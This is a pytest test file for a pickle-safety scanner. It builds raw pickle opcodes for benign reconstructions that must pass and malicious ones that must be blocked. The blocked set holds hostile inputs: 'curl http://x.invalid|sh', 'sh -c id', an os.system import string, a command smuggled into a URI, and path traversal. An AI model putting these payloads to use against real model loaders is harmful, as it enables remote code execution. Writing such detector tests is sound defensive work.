"""What a callee can but keep, nothing else in the pickle speaking for it; and what looks like it and is a deed."""

import time

import pytest

from tests.builders.models import assert_blocked, weighed
from tests.builders.pickles import pickle_of, text
from weighbridge.policy.verdict import EvalOutcome


def named(name: str, module: str = "lab.core") -> bytes:
    return text(module) + text(name) + b"\x93"


def given(*values: bytes) -> bytes:
    return b"(" + b"".join(values) + b"t"


def call(name: str, *values: bytes, module: str = "lab.core") -> bytes:
    return named(name, module) + given(*values) + b"R"


def row(*values: bytes) -> bytes:
    return b"](" + b"".join(values) + b"e"


def octets(data: bytes) -> bytes:
    return b"C" + bytes([len(data)]) + data


def partial(function: bytes, **by_name: str) -> bytes:
    """As functools pickles it: the function alone, then all of it as state."""
    held = b"}(" + b"".join(text(key) + text(value) for key, value in by_name.items()) + b"u"
    return call("partial", function, module="functools") + b"(" + function + b")" + held + b"Ntb"


def transformer(**state: bytes) -> bytes:
    made = named("FunctionTransformer", "sklearn.preprocessing._function_transformer") + b")\x81"
    return made + b"}(" + b"".join(text(key) + value for key, value in state.items()) + b"ub"


def dict_of(key: str, value: str = "noleap") -> bytes:
    return b"}" + text(key) + text(value) + b"s"


ONE, TWO = b"K\x01", b"K\x02"
INSTANCE = named("Store") + b")\x81"
KEPT = {
    "a member of an enum": call("Colour", text("green")),
    "a member whose value is a row": call("Shade", given(TWO, text("dark green"))),
    "a zone without arguments": call("Zone"),
    "a decimal": call("Price", text("1.50")),
    "a word and a number": call("Reduced", ONE, text("word")),
    "a collection of words": call("WordSet", row(text("a"), text("b"))),
    "a profile of a recall": call("RecallProfile", text("macro")),
    "an instance among the arguments": call("Graph", INSTANCE, call("Node", text("n1"))),
    "an address by its class": call("GraphURI", text("http://x.invalid/a#b")),
    "a number with its unit": call("unitfloat", b"G?\xf0\0\0\0\0\0\0", text("Da")),
    "a word between underscores": call("TaskRef", text("__block__0")),
    "a lower-case class, a row and a dict": call(
        "_create_datetime", named("datetime"), given(ONE, TWO), dict_of("calendar")
    ),
    "an object that is rebuilt from one": call("unpickle_lazy", INSTANCE + dict_of("folder", "/srv/data") + b"b"),
    "a curried function by its text": call(
        "_restore_curry", named("curry", "toolz.functoolz"), text("lab.core:fill"), module="toolz.functoolz"
    ),
    "a path in its parts": call("ModelPath", text("/"), text("home"), text("model.bin")),
    "an exception's message": call("LabError", text("it failed: see /var/log/lab.log; cat and id were asked")),
    "an exception by its module": call("InvalidState", text("not open"), module="lab.exceptions"),
    "an exception with what it is about": call("LabError", dict_of("Message", "Not Found"), text("HeadObject")),
    "a collection with its own factory": call("ArrayDict", named("array_default_factory")),
    "a member whose value has a slash": call("FeatureSet", text("egemaps/v02/eGeMAPSv02")),
    "a mark": call("Quote", text("'")),
    "a constructor of numbers": call("__rect_constructor", ONE, TWO),
    "a class with a letter before its name": call("vText", text("daily")),
    "a lower-case type called like its module": call("stype", text("numerical"), module="lab._stype"),
    "a lower-case time of bytes": call("time", octets(b"\x03\x04\0\0")),
    "a thing made of a word and a number": call("_make_element", text("public"), b"K\x1a"),
    "a value rebuilt of words": call("_rebuild_record", text("a b c")),
    "a class called by its keywords": partial(named("Reduced"), a="word", b="another") + b")R",
    "an instance that its arguments lead back to": call("Graph", INSTANCE) + b"0N",
}
DEEDS = {
    "a command": call("Colour", text("curl http://x.invalid/a")),
    "a command of one word": call("Colour", text("reboot")),
    "a program and its option": call("Colour", text("run"), text("-x")),
    "a module that reaches everything": call("Colour", text("subprocess")),
    "what Python keeps to itself": call("Colour", text("__main__")),
    "a sum that is evaluated": call("Colour", text("1+1")),
    "a call that is evaluated": call("Colour", text("go(1)")),
    "words in a row": call("Colour", row(text("run"), text("me"))),
    "a class that runs": call("TaskRunner", text("word")),
    "a class that opens": call("FileReader", text("word")),
    "a class that opens nothing told": call("Server"),
    "an address for a class of another name": call("Graph", text("http://x.invalid/a")),
    "a command for an address": call("GraphURI", text("http://x.invalid/a|sh -c id")),
    "a path in one piece": call("ModelPath", text("/home/inert/.bashrc")),
    "a path that climbs": call("ModelPath", text("/"), text(".."), text("inert")),
    "a command for an exception": call("LabError", text("sh -c 'echo inert'")),
    "code for an exception": call("LabError", text("__import__('os').system('id')")),
    "a text as bytes for a time": call("time", octets(b"sh -c id")),
    "a function with a word": call("perform", text("word")),
    "an inert path within the arguments": call("Graph", call("PosixPath", text("/etc/inert"), module="pathlib")),
    "an instance of another package": call("Graph", named("Thing", "other.core") + b")\x81"),
    "a function among the arguments": call("Graph", named("go", "other.core")),
    "a command by its keyword": partial(named("Reduced"), a="curl http://x.invalid|sh") + b")R",
    "a command by its keyword, then a state": partial(named("Reduced"), a="sh -c id") + b")R}b",
    "a command for __new__ by its keyword, then a state": named("Reduced")
    + b")}"
    + text("a")
    + text("sh -c id")
    + b"s\x92}b",
    "a command among what an exception is about": call("LabError", dict_of("Message", "sh -c id")),
    "a command in a module of exceptions": call(
        "InvalidState", text("curl http://x.invalid|sh"), module="lab.exceptions"
    ),
    "an address as bytes": call("groupdict", octets(b"127.0.0.1")),
    "a relative path": call("FeatureSet", text("weights/payload.so")),
    "a path that climbs in one piece": call("FeatureSet", text("../a/b")),
    "a collection with another's factory": call("ArrayDict", named("default_factory", "other.core")),
    "a factory of what is missing": call("defaultdict", named("_zero_counts"), module="collections"),
    "a factory that runs": call("defaultdict", named("run_default"), module="collections"),
    "a factory of no such name": call("defaultdict", named("trigger"), module="collections"),
    "a command with its unit": call("unitstr", text("sh -c id"), text("Da")),
    "a setting for what creates": call("_create_thing", dict_of("plugin_path")),
    "a module for what creates": call("_create_thing", dict_of("kind", "subprocess")),
    "a word for what is restored": call("unpickle_lazy", text("weights")),
    "a curried deed by its text": call(
        "_restore_curry", named("curry", "toolz.functoolz"), text("os:system"), module="toolz.functoolz"
    ),
    "a result thrown away": call("Colour", text("green")) + b"0N",
    "a transformer with a function of its author's": transformer(func=named("preprocess_text")),
    "a transformer with a command": transformer(func=named("go"), kw_args=b"}" + text("a") + text("sh -c id") + b"s"),
}


@pytest.mark.parametrize("form", KEPT)
def test_what_could_but_be_kept_passes(form):
    """It stands alone: no instance of the package beside it, no state."""
    assert weighed(pickle_of("PROTO 4", KEPT[form], "STOP")).eval_outcome is EvalOutcome.ALLOWED


@pytest.mark.parametrize("deed", DEEDS)
def test_what_could_be_more_than_kept_blocks(deed):
    """The nearest that an attacker would write."""
    assert_blocked(weighed(pickle_of("PROTO 4", DEEDS[deed], "STOP")))


def test_a_base_that_is_inert_is_made_by_protocol_0():
    """`_reconstructor(zone, datetime.tzinfo, tzinfo())`: its base is called, as what is known to be inert."""
    base = named("tzinfo", "datetime")
    made = call("_reconstructor", named("Zone"), base, base + b")R", module="copyreg")

    assert weighed(pickle_of("PROTO 4", made, "STOP")).eval_outcome is EvalOutcome.ALLOWED


@pytest.mark.parametrize(
    "name", ["json.decoder:JSONDecodeError", "struct:error", "zlib:error", "tomllib:TOMLDecodeError"]
)
def test_an_exception_of_the_standard_library_passes(name):
    """Results and failed trials keep them, with what was wrong."""
    module, _, last = name.partition(":")
    made = call(last, text("Expecting value: line 1"), text("{"), ONE, module=module)

    assert weighed(pickle_of("PROTO 4", made, "STOP")).eval_outcome is EvalOutcome.ALLOWED


def test_a_list_within_itself_many_times_over_ends_soon():
    """Each list holds the one before it nine hundred times: what was looked at is not looked at again."""
    nest = b"]\x94" + b"".join(b"](" + (b"h" + bytes([n])) * 900 + b"e\x94" for n in range(9))
    data = pickle_of("PROTO 4", named("Graph") + b"(" + nest + b"tR", "STOP")

    started = time.process_time()
    verdict = weighed(data)

    assert time.process_time() - started < 2
    assert verdict.eval_outcome is not EvalOutcome.ERROR
